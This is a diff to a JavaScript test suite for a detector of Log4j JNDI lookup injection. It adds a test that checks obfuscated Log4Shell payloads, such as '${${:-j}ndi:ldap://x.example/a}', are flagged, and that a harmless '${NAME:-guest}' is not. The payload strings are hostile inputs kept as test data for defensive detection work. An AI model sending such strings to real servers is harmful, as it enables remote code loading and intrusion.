@@ -26,6 +26,20 @@ describe('detectJndi', () => {
     }
   });
 
+  test('lookups with an empty or unknown name fall back to their default', () => {
+    // Log4j splits at the first `:-`: `${:-j}` is `j` just as `${::-j}` is.
+    for (const value of [
+      '${${:-j}ndi:ldap://x.example/a}',
+      '${${:-j}${:-n}${:-d}${:-i}:${:-l}${:-d}${:-a}${:-p}://x.example/a}',
+      '${${nope:-j}ndi:ldap://x.example/a}',
+    ]) {
+      assert.ok(fires(detectJndi, value, { location: 'header', key: 'user-agent' }), value);
+    }
+    assert.equal(resolveLookups('${${:-j}${:-n}${::-d}${x:y:-i}:x}'), '${jndi:x}');
+    // A shell-style default that spells nothing is still no lookup injection.
+    assert.equal(fires(detectJndi, '${NAME:-guest}', { location: 'query' }), false);
+  });
+
   test('resolveLookups rebuilds the characters', () => {
     assert.equal(resolveLookups('${${lower:J}${upper:n}${::-d}i:x}'), '${jNdi:x}');
   });
